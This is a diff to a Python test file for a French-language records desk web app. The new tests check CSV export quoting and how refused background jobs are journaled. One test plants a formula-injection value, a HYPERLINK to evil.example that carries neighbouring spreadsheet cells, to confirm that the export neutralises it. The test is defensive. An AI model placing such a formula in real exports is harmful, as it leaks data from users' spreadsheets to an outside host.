@@ -14,8 +14,10 @@ Over real HTTP (the desk under uvicorn in this process), raw bytes on the wire."
 
 from __future__ import annotations
 
+import csv
 import html
 import http.client
+import io
 import re
 import time
 from datetime import datetime, timedelta
@@ -27,6 +29,8 @@ from vault_support import CAMERA, make_spool
 
 from recorder.evidence.age import encrypt_with_passphrase, generate_identity
 from tests.desk_support import PASSPHRASE, PERSON, ServedDesk
+from tools.desk.access import Refused
+from tools.desk.jobs import Jobs
 from tools.vault.ingest import ingest
 from tools.vault.persons import designate
 from tools.vault.retention import hold, purge
@@ -456,3 +460,60 @@ def test_hostile_headers_on_a_form_get_a_clear_page_never_a_500(client, made, he
     assert got == status and '<html lang="fr">' in page and 'id="refus"' in page, (got, page[:300])
     assert_nothing_recorded(before, made)
     assert "PV en-têtes" not in client.get(f"/enregistrements/{rid}")[1]   # no hold placed
+
+
+def test_a_requester_written_as_a_formula_stays_text_in_the_registers_csv(client, made):
+    """A spreadsheet runs a cell starting with = + - @ as a formula (a link sending the
+    register's neighbouring cells away): the CSV quotes it; the register keeps what was typed."""
+    rid = made["rid"]
+    formula = '=HYPERLINK("http://evil.example/?"&A1;"voir")'
+    status, _, _ = client.post(f"/enregistrements/{rid}/consulter", {"csrf": client.token(rid), "motif": "judicial",
+                                                                    "demandeur": formula})
+    assert status == 303
+    assert read_jsonl(made["register"])[-1]["requester"] == formula
+    status, csv_text, response = client.get("/registre?format=csv&evenement=consultation")
+    assert status == 200 and response.getheader("Content-Type").startswith("text/csv")
+    cells = [cell for row in list(csv.reader(io.StringIO(csv_text.lstrip("\ufeff")), delimiter=";"))[1:]
+             for cell in row]
+    assert "'" + formula in cells
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))], cells
+
+
+class _Person:
+    matricule, person = "PM-0042", PERSON
+
+
+def _refusing():
+    raise Refused(404, "Enregistrement introuvable", "absent", attempt=True)
+
+
+def _wait(job, limit: float = 10):
+    deadline = time.monotonic() + limit
+    while job.running:
+        assert time.monotonic() < deadline, f"the job {job.what!r} never ended"
+        time.sleep(0.02)
+
+
+def test_a_job_refused_is_journaled_before_its_page_says_it_ended():
+    journaled = []
+
+    def slow(job, exc):
+        time.sleep(0.3)
+        journaled.append(job.id)
+
+    job = Jobs(refused=slow).start(("a",), "premier", _Person(), "/x", _refusing)
+    _wait(job)
+    assert journaled == [job.id], "the job's page said it ended before its attempt was journaled"
+
+
+def test_the_next_jobs_still_run_when_a_refusal_cannot_be_journaled():
+    def broken(job, exc):
+        raise RuntimeError("journal unwritable in an unforeseen way")
+
+    jobs = Jobs(refused=broken)
+    first = jobs.start(("a",), "premier", _Person(), "/x", _refusing)
+    _wait(first)
+    assert first.error.status == 404
+    second = jobs.start(("b",), "second", _Person(), "/x", lambda: {"template": "t", "context": {}})
+    _wait(second, limit=5)   # the worker survived
+    assert second.error is None and second.result == {"template": "t", "context": {}}
